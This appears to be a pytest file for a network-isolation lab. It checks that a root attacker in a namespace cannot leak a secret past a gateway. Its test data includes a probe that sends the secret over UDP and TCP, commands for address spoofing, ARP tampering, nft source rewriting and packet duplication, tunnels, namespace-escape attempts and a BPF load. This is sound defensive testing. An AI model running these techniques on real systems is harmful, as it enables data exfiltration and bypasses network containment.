# SPDX-License-Identifier: Apache-2.0
"""Rebuilding one's own network: links, addresses, routes, rules. All of it is the attacker's to change as root; behind the
link is the gate all the same."""

import pytest

from lab import UDP_ECHO, v4

from .packets import SECRET

# What is tried behind each change; whatever of it works or not, none of it may leave.
PROBE = f"""
    def attempt(what):
        try:
            what()
        except OSError:
            pass
    def udp(source=None):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if source:
            sock.bind((source, 0))
        sock.sendto({SECRET!r}, ("{v4('raw')}", {UDP_ECHO}))
    def stream():
        with tcp("{v4('raw')}", 7, 0.5) as sock:
            sock.sendall({SECRET!r})
    attempt(udp)
    attempt(stream)
    for source in sys.argv[1:]:
        attempt(lambda: udp(source))
"""
NFT = "add table ip x; add chain ip x p {{ type {} hook {} priority 0; }}; add rule ip x p {}"

# technique: shell commands, sources to send from too, a reason that must be on record
WAY = "ip route replace default via 10.200.0.1 dev {0} && ip neigh replace 10.200.0.1 lladdr 02:00:00:00:00:01 dev {0} nud permanent"
ETH0 = WAY.format("eth0")
MOVED = f"""unshare -n true
unshare -n sh -c 'echo $$ >pid
    while ! ip addr add 10.200.0.2/30 dev eth0 2>/dev/null; do sleep 0.01; done
    ip link set eth0 up && {ETH0}; ping -c 1 -W 1 203.0.114.90; true' &
while ! [ -s pid ]; do sleep 0.01; done
ip link set eth0 netns $(cat pid)
wait"""
CHANGES = {
    "link: the host's address on eth0": ("ip addr add 203.0.114.2/32 dev eth0", ["203.0.114.2"], "spoofed"),
    "link: the gate's address on eth0": ("ip addr add 10.200.0.1/32 dev eth0", ["10.200.0.1"], "udp"),
    "link: another address for its own": (f"ip addr flush dev eth0; ip addr add 10.200.0.3/29 dev eth0; {ETH0}", [], "spoofed"),
    "link: another hardware address": (f"ip link set eth0 address 02:00:00:00:01:02; {ETH0}", [], "udp"),
    "link: broadcast as the gate's hardware address": ("ip neigh replace 10.200.0.1 lladdr ff:ff:ff:ff:ff:ff dev eth0", [], "udp"),
    "link: MTU of 65535": ("ip link set eth0 mtu 65535", [], "udp"),
    "link: promiscuous, down, up": (f"ip link set eth0 promisc on; ip link set eth0 down; ip link set eth0 up; {ETH0}", [], "udp"),
    "link: renamed": (f"ip link set eth0 down; ip link set eth0 name wan; ip link set wan up; {WAY.format('wan')}", [], "udp"),
    "link: deleted": ("ip link del eth0", [], None),
    # Its gate hears of that and ends; what is sent before is on record, or not sent any more.
    "link: moved into a namespace below": (MOVED, [], None),
    "link: bridged": (f"ip link add br0 type bridge; ip link set eth0 master br0; ip link set br0 up; ip addr flush dev eth0; ip addr add 10.200.0.2/30 dev br0; {WAY.format('br0')}", [], "udp"),
    "link: macvlan on it": ("ip link add link eth0 name m0 type macvlan; ip addr add 203.0.114.2/30 dev m0; ip link set m0 up; ip route replace 203.0.114.90 dev m0;"
                            " ip neigh add 203.0.114.90 lladdr 02:00:00:00:00:01 dev m0", [], "spoofed"),
    "link: VXLAN tunnel": ("ip link add t0 type vxlan id 7 remote 203.0.114.80 dstport 4789 dev eth0; ip link set t0 up; ip route add 203.0.114.90 dev t0 src 10.200.0.2;"
                           " ip neigh add 203.0.114.90 lladdr 02:00:00:00:00:09 dev t0", [], "udp"),
    "routes: no gateway, all on the link": ("ip route replace default dev eth0; ip neigh add 203.0.114.90 lladdr 02:00:00:00:00:01 dev eth0", [], "udp"),
    "sysctl: forwarding, local addresses routed": ("echo 1 >/proc/sys/net/ipv4/ip_forward; echo 1 >/proc/sys/net/ipv4/conf/all/route_localnet", ["127.0.0.1"], "udp"),
    "nft: source changed to the host's": (f"nft '{NFT.format('nat', 'postrouting', 'snat to 203.0.114.2')}'", [], "spoofed"),
    "nft: destination changed": (f"nft '{NFT.format('nat', 'output', 'dnat to 127.0.0.1')}'", [], None),
    "nft: duplicated to another gateway": (f"nft '{NFT.format('filter', 'output', 'dup to 10.200.0.1 device eth0')}'", [], "udp"),
}
ENDS = {"link: deleted", "link: moved into a namespace below"}


@pytest.mark.parametrize("technique", CHANGES)
def test_change(attack, technique):
    commands, sources, reason = CHANGES[technique]
    with attack(technique) as attempt:
        done = attempt.run(["sh", "-ec", commands])
        attempt.python(PROBE, *sources)
    if not attempt.root:
        assert done.rc != 0, done
        attempt.refused("no capability there")
        return
    assert done.rc == 0, done
    if reason:
        attempt.recorded("drop", reason=reason)
    else:
        attempt.note("leads nowhere")
    if technique in ENDS:
        assert attempt.result.one("end")["ended"] == "link_deleted", attempt.result


FOREIGN = {
    "into the gate by its namespace number: a link": "ip link add link gw0 link-netnsid 0 name x type macvlan",
    "into the gate by its namespace number: a look": "ip link show target-nsid 0",
    "eth0 into the host's namespace": "ip link set eth0 netns 1",
    "a veth into the host's namespace": "ip link add x type veth peer name y netns 1",
    "into another process's namespace": "nsenter -t 1 -n ip link",
    "a namespace of one's own with the link": "unshare -Urn ip link set eth0 name x",
}


@pytest.mark.parametrize("technique", FOREIGN)
def test_other_namespaces(attack, technique):
    """The gate's and the host's are owned by user namespaces above the attacker's."""
    with attack(technique) as attempt:
        done = attempt.run(["sh", "-c", FOREIGN[technique]])
    assert done.rc != 0, done
    attempt.refused("no capability there")


def test_programs_in_the_kernel(attack):
    """XDP and sockets of it: BPF programs need more than a user namespace gives."""
    with attack("BPF program on the link (XDP)") as attempt:
        (shown,) = attempt.python("""
            import ctypes, errno
            libc = ctypes.CDLL(None, use_errno=True)
            code = struct.pack("<BBhi", 0xb7, 0, 0, 2) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # return XDP_PASS
            instructions, licence = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
            attr = struct.pack("=IIQQ", 6, 2, ctypes.addressof(instructions), ctypes.addressof(licence)).ljust(128, b"\\0")
            buffer = ctypes.create_string_buffer(attr, 128)
            fd = libc.syscall(321, 5, buffer, 128)
            show(error=errno.errorcode[ctypes.get_errno()] if fd < 0 else None)
        """)
    attempt.refused(shown["error"])
